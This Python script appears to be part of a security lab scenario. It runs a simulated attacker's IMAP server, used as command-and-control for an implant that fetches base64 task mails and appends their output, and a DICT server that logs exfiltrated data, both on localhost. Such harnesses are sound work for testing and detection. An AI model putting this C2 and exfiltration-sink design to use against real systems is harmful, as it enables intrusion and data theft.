#!/usr/bin/env python3
"""The attacker's mail server and DICT sink of scenario shop-stockfeed (runs as labremote).

IMAP (127.0.0.1:--imap-port): a mailbox used as C2. The implant logs in, fetches
INBOX;UID=<n> (a task mail whose body is a base64 command) and APPENDs the
output to Sent. Tasks are files DIR/inbox/<uid>.eml written by the driver;
appended mails land in DIR/sent/<seq>.eml. Only what curl's IMAP client sends is
understood: CAPABILITY, LOGIN, SELECT/EXAMINE, (UID) FETCH, APPEND, NOOP, LOGOUT.

DICT (127.0.0.1:--dict-port): the exfiltration sink. Each connection's request
lines (curl's CLIENT, DEFINE <db> <word>, QUIT) are appended to --dict-out.
"""
import argparse
import os
import re
import socketserver
import threading
import time


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--imap-port", type=int, required=True)
    p.add_argument("--dict-port", type=int, required=True)
    p.add_argument("--dir", required=True)
    p.add_argument("--dict-out", required=True)
    p.add_argument("--lifetime", type=float, default=600)
    a = p.parse_args()
    inbox = os.path.join(a.dir, "inbox")
    sent = os.path.join(a.dir, "sent")
    os.makedirs(inbox, exist_ok=True)
    os.makedirs(sent, exist_ok=True)
    log = open(os.path.join(a.dir, "imap.log"), "a", buffering=1)
    lock = threading.Lock()

    def msgs():
        out = []
        for f in os.listdir(inbox):
            m = re.match(r"^(\d+)\.eml$", f)
            if m:
                out.append(int(m.group(1)))
        return sorted(out)

    class Imap(socketserver.StreamRequestHandler):
        def w(self, s):
            self.wfile.write(s if isinstance(s, bytes) else s.encode())
            self.wfile.flush()

        def handle(self):
            self.w("* OK [CAPABILITY IMAP4rev1] mail.cdn-sync.example IMAP ready\r\n")
            while True:
                line = self.rfile.readline()
                if not line:
                    return
                text = line.decode("latin-1").rstrip("\r\n")
                log.write("%.3f C: %s\n" % (time.time(), text if "LOGIN" not in text.upper() else text.split(" LOGIN ")[0] + " LOGIN ..."))
                parts = text.split(" ", 2)
                if len(parts) < 2:
                    self.w("* BAD\r\n")
                    continue
                tag, cmd = parts[0], parts[1].upper()
                arg = parts[2] if len(parts) > 2 else ""
                if cmd == "CAPABILITY":
                    self.w("* CAPABILITY IMAP4rev1\r\n%s OK CAPABILITY completed\r\n" % tag)
                elif cmd in ("LOGIN", "NOOP", "CLOSE", "EXPUNGE"):
                    self.w("%s OK %s completed\r\n" % (tag, cmd))
                elif cmd in ("SELECT", "EXAMINE"):
                    self.w("* %d EXISTS\r\n* 0 RECENT\r\n* OK [UIDVALIDITY 1] UIDs valid\r\n"
                           "* FLAGS (\\Seen)\r\n%s OK [READ-WRITE] %s completed\r\n" % (len(msgs()), tag, cmd))
                elif cmd == "UID" or cmd == "FETCH":
                    # UID FETCH <uid> BODY[] or FETCH <uid> BODY[]
                    m = re.search(r"(\d+)", arg if cmd == "FETCH" else arg.split(" ", 1)[1] if " " in arg else "")
                    uid = int(m.group(1)) if m else 0
                    f = os.path.join(inbox, "%d.eml" % uid)
                    if uid and os.path.exists(f):
                        data = open(f, "rb").read()
                        self.w(b"* 1 FETCH (UID %d BODY[] {%d}\r\n" % (uid, len(data)) + data + b")\r\n")
                        log.write("%.3f S: task %d fetched\n" % (time.time(), uid))
                    self.w("%s OK FETCH completed\r\n" % tag)
                elif cmd == "APPEND":
                    m = re.search(r"\{(\d+)\+?\}$", arg)
                    if not m:
                        self.w("%s BAD APPEND\r\n" % tag)
                        continue
                    n = int(m.group(1))
                    if not arg.rstrip().endswith("+}"):
                        self.w("+ Ready for literal data\r\n")
                    data = self.rfile.read(n)
                    self.rfile.readline()
                    with lock:
                        seq = len(os.listdir(sent)) + 1
                        tmp = os.path.join(sent, ".%d.tmp" % seq)
                        open(tmp, "wb").write(data)
                        os.rename(tmp, os.path.join(sent, "%d.eml" % seq))
                    log.write("%.3f S: appended %d bytes as sent/%d.eml\n" % (time.time(), n, seq))
                    self.w("%s OK APPEND completed\r\n" % tag)
                elif cmd == "LOGOUT":
                    self.w("* BYE\r\n%s OK LOGOUT completed\r\n" % tag)
                    return
                else:
                    self.w("%s OK %s completed\r\n" % (tag, cmd))

    out = open(a.dict_out, "a", buffering=1)

    class Dict(socketserver.StreamRequestHandler):
        def handle(self):
            self.wfile.write(b"220 dict.cdn-sync.example dictd <auth.mime> <1@dict>\r\n")
            while True:
                line = self.rfile.readline()
                if not line:
                    return
                text = line.decode("latin-1").rstrip("\r\n")
                with lock:
                    out.write("%.3f %s\n" % (time.time(), text))
                if text.upper().startswith("QUIT"):
                    self.wfile.write(b"221 bye\r\n")
                    return
                if text.upper().startswith(("DEFINE", "MATCH", "D ", "M ")):
                    self.wfile.write(b"552 no match\r\n")
                else:
                    self.wfile.write(b"250 ok\r\n")

    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer.daemon_threads = True
    servers = [socketserver.ThreadingTCPServer(("127.0.0.1", a.imap_port), Imap),
               socketserver.ThreadingTCPServer(("127.0.0.1", a.dict_port), Dict)]
    for s in servers:
        threading.Thread(target=s.serve_forever, daemon=True).start()
    time.sleep(a.lifetime)


if __name__ == "__main__":
    main()
